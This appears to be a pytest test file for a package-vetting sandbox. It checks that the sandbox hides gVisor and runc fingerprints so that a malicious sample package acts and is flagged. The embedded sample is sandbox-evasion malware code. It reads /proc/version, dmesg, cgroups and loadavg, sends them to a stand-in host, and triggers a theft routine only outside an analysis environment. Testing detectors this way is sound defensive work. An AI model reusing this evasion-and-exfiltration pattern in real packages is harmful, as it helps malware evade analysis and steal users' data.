"""More sandbox tells, then the theft: gVisor names itself Linux 4.4.0 built on 10 January
2016 (`uname -r`, `platform.release()`, /proc/version), its kernel log (`dmesg`) opens with
"Starting gVisor...", its /proc/self/cgroup is empty and its /proc/loadavg all zeros; under
runc /proc/self/cgroup names `/docker/<id>`. The fixture stays quiet on any of these; under
the persona it sees a Debian kernel, a kernel log closed to users (Debian's dmesg_restrict),
a desktop session's control group and a load, so it acts and is caught. Real containers
under gVisor and runc (where the host's own kernel shows)."""

from __future__ import annotations

import json
from pathlib import Path

import pytest

import sandbox_fixtures as fx
from pkgvet.model import Verdict
from sandbox_fixtures import evasion as ev

QUIET_IN_A_SANDBOX = ev.THEFT + '''
import json as _json
import platform as _platform
import subprocess as _subprocess

try:
    with open("/proc/version") as _fh:
        _version = _fh.read()
except OSError:
    _version = ""
try:
    _log = _subprocess.run(["dmesg"], capture_output=True, text=True, timeout=10)
    _dmesg = _log.stdout + _log.stderr
except (OSError, _subprocess.SubprocessError):
    _dmesg = ""


def _text(path):
    try:
        with open(path) as fh:
            return fh.read()
    except OSError:
        return ""


_seen = {"release": _platform.release(), "uname_version": _platform.version(),
         "proc_version": _version, "dmesg": _dmesg[:300],
         "cgroup": _text("/proc/self/cgroup")[:300],
         "init_cgroup": _text("/proc/1/cgroup")[:300],
         "loadavg": _text("/proc/loadavg")}
try:
    with _socket.create_connection(("kernel.pkgvet-test.invalid", 80), timeout=3) as _conn:
        _conn.sendall(_json.dumps(_seen).encode())
except OSError:
    pass
_told = (_seen["release"] == "4.4.0" or " 2016" in _seen["uname_version"]
         or "4.4.0" in _version or "gvisor" in _dmesg.lower()
         or not _seen["cgroup"].strip() or "docker" in _seen["cgroup"] + _seen["init_cgroup"]
         or _seen["loadavg"].startswith("0.00 0.00 0.00 0/0"))
if not _told:
    _theft()
'''


@pytest.mark.sandbox
@pytest.mark.parametrize("runtime", ["runsc", "runc"])
def test_the_kernel_does_not_name_gvisor_so_the_package_acts(tmp_path: Path,
                                                             runtime: str) -> None:
    outcome = fx.run_sdist(tmp_path, runtime, "kernelcheck", QUIET_IN_A_SANDBOX)
    seen = fx.first_sent(outcome, '{"release"')
    print(runtime, json.dumps(seen, indent=1))
    assert seen["release"] != "4.4.0" and "gvisor" not in seen["dmesg"].lower()
    assert seen["release"] in seen["proc_version"]  # uname and /proc/version agree
    assert "docker" not in seen["cgroup"] + seen["init_cgroup"] and seen["cgroup"].strip()
    assert not seen["loadavg"].startswith("0.00 0.00 0.00 0/0")
    rules = {f.rule_id for f in outcome.findings}
    assert {"PV801", "PV803"} <= rules, sorted(rules)
    assert outcome.report.verdict is Verdict.MALICIOUS
